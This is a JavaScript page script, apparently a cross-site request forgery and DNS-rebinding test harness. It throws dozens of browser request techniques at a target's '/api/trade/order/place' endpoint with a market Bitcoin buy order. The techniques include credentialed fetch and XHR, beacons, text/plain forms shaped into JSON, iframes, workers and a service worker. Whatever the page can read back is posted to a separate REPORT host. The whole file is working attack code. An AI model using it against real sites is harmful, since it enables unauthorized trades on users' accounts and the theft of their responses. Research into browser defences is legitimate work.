// Everything a page can do to reach http://TARGET, tried at once. What it can read of an answer goes to REPORT. Both, and the
// page's own name, stand in the page's query.
"use strict";
const asked = new URLSearchParams(location.search);
const page = asked.get("page"), target = asked.get("target"), report = asked.get("report");
const PATH = "/api/trade/order/place", ORDER = '{"symbol":"BTCUSDT","side":"BUY","ordType":"MARKET","ordAmt":"1"}';
const PATIENCE_MS = 8000;
const url = (attack, scheme = "http") => `${scheme}://${target}${PATH}?page=${page}&attack=${attack}`;
const tell = (kind, attack, text) =>
    fetch(`${report}/${kind}`, { method: "POST", mode: "no-cors", body: JSON.stringify({ page, attack, text }) });

const attacks = {};
const METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
const TYPES = { json: "application/json", plain: "text/plain", form: "application/x-www-form-urlencoded" };

// --- fetch and its elders ---
for (const mode of ["cors", "no-cors", "same-origin"]) {
    for (const method of METHODS) {
        const body = ["GET", "HEAD", "OPTIONS"].includes(method) ? undefined : ORDER;
        attacks[`fetch-${mode}-${method}`] = async name => (await fetch(url(name), { mode, method, body })).text();
    }
    for (const [kind, type] of Object.entries(TYPES))
        attacks[`fetch-${mode}-${kind}`] = async name => (await fetch(url(name), {
            mode, method: "POST", body: ORDER, headers: { "Content-Type": type }, credentials: "include" })).text();
}
attacks["fetch-keepalive"] = async name =>
    (await fetch(url(name), { mode: "no-cors", method: "POST", body: ORDER, keepalive: true })).text();
attacks["fetch-own-field"] = async name => (await fetch(url(name), { headers: { "X-CS-APIKEY": "1" } })).text();
attacks["fetch-no-referrer"] = async name =>
    (await fetch(url(name), { mode: "no-cors", method: "POST", body: ORDER, referrerPolicy: "no-referrer" })).text();
attacks["beacon"] = async name => void navigator.sendBeacon(url(name), ORDER);
attacks["beacon-form"] = async name => void navigator.sendBeacon(url(name), new URLSearchParams({ order: ORDER }));
for (const [method, type] of [["GET", null], ["POST", "text/plain"], ["POST", "application/json"], ["DELETE", null]])
    attacks[`xhr-${method}-${type ? type.split("/")[1] : "none"}`] = name => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(request.responseText);
        request.onerror = reject;
        request.open(method, url(name));
        request.withCredentials = true;
        if (type)
            request.setRequestHeader("Content-Type", type);
        request.send(method === "POST" ? ORDER : null);
    });
attacks["event-source"] = name => new Promise((resolve, reject) => {
    const source = new EventSource(url(name), { withCredentials: true });
    source.onmessage = event => resolve(event.data);
    source.onerror = () => { source.close(); reject(); };
});
attacks["web-socket"] = name => new Promise((resolve, reject) => {
    const socket = new WebSocket(url(name, "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = reject;
});

// --- what a document brings with it ---
function element(tag, properties) {
    const made = Object.assign(document.createElement(tag), properties);
    document.body.append(made);
    return made;
}
const settled = made => new Promise(resolve => { made.onload = made.onerror = () => resolve(null); });
const parts = {
    "image": address => ({ tag: "img", src: address }),
    "script": address => ({ tag: "script", src: address }),
    "module": address => ({ tag: "script", type: "module", src: address }),
    "style": address => ({ tag: "link", rel: "stylesheet", href: address }),
    "prefetch": address => ({ tag: "link", rel: "prefetch", href: address }),
    "preload": address => ({ tag: "link", rel: "preload", as: "fetch", href: address }),
    "preload-script": address => ({ tag: "link", rel: "preload", as: "script", href: address }),
    "object": address => ({ tag: "object", data: address }),
    "embed": address => ({ tag: "embed", src: address }),
};
for (const [kind, make] of Object.entries(parts))
    attacks[kind] = name => {
        const { tag, ...properties } = make(url(name));
        return settled(element(tag, properties));
    };
for (const kind of ["video", "audio"])
    attacks[kind] = async name => void await element(kind, { muted: true, src: url(name) }).play();
attacks["image-cors"] = name => settled(element("img", { crossOrigin: "use-credentials", src: url(name) }));
attacks["background"] = async name => void (element("div", { textContent: "." }).style.backgroundImage = `url("${url(name)}")`);
attacks["font"] = async name => {
    element("style", { textContent: `@font-face { font-family: "${name}"; src: url("${url(name)}"); }` });
    element("div", { textContent: "." }).style.fontFamily = name;
};
attacks["import"] = async name => void await import(url(name));
attacks["worker-import"] = async name =>
    void new Worker(URL.createObjectURL(new Blob([`importScripts("${url(name)}")`])));
attacks["worker-fetch"] = async name => void new Worker(URL.createObjectURL(new Blob(
    [`fetch("${url(name)}", { mode: "no-cors", method: "POST", body: '${ORDER}' })`])));
attacks["service-worker"] = async name => void await navigator.serviceWorker.register(url(name));

// --- navigations ---
const read = frame => frame.contentDocument && frame.contentDocument.documentElement.innerText;
attacks["frame"] = async name => {
    const frame = element("iframe", { src: url(name) });
    await settled(frame);
    return read(frame);
};
attacks["frame-sandboxed"] = name => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts allow-forms";
    frame.src = url(name);
    document.body.append(frame);
    return settled(frame);
};
attacks["frame-refresh"] = async name =>
    void element("iframe", { srcdoc: `<meta http-equiv="refresh" content="0; url=${url(name)}">` });
attacks["frame-location"] = async name =>
    void element("iframe", { srcdoc: `<script>location.href = "${url(name)}"</` + "script>" });
for (const [kind, method, enctype] of [["get", "GET", ""], ["plain", "POST", "text/plain"],
        ["urlencoded", "POST", "application/x-www-form-urlencoded"], ["multipart", "POST", "multipart/form-data"]])
    attacks[`form-${kind}`] = async name => {
        const frame = element("iframe", { name: `for-${name}` });
        const form = element("form", { action: url(name), method, target: frame.name });
        form.enctype = enctype;
        // As text/plain, name and value make one JSON text.
        for (const [field, value] of [['{"symbol":"BTCUSDT","ignored":"', '"}'], ["page", page], ["attack", name]])
            form.append(Object.assign(document.createElement("input"), { name: field, value }));
        const loaded = settled(frame);
        form.submit();
        await loaded;
        return read(frame);
    };
attacks["window"] = async name => void window.open(url(name));
attacks["window-form"] = async name => {
    const form = element("form", { action: url(name), method: "POST", target: "_blank" });
    form.enctype = "text/plain";
    form.append(Object.assign(document.createElement("input"), { name: '{"a":"', value: '"}' }));
    form.submit();
};
attacks["link-and-ping"] = async name => {
    element("a", { href: "about:blank", target: "_blank", ping: url(name) }).click();
};

// What is read late is told all the same; only the end does not wait for it.
async function attempt(name) {
    try {
        const text = await attacks[name](name);
        if (text)
            await tell("read", name, text);
    } catch {
        // the browser did not let it
    }
}

async function all() {
    if (asked.get("rebind"))
        await fetch("/rebind", { method: "POST" }); // from here on this page's own name leads to the proxy
    await tell("tried", "", Object.keys(attacks).join(" "));
    const patience = new Promise(resolve => setTimeout(resolve, PATIENCE_MS));
    await Promise.race([Promise.all(Object.keys(attacks).map(attempt)), patience]);
    await tell("over", "", "");
}
all();
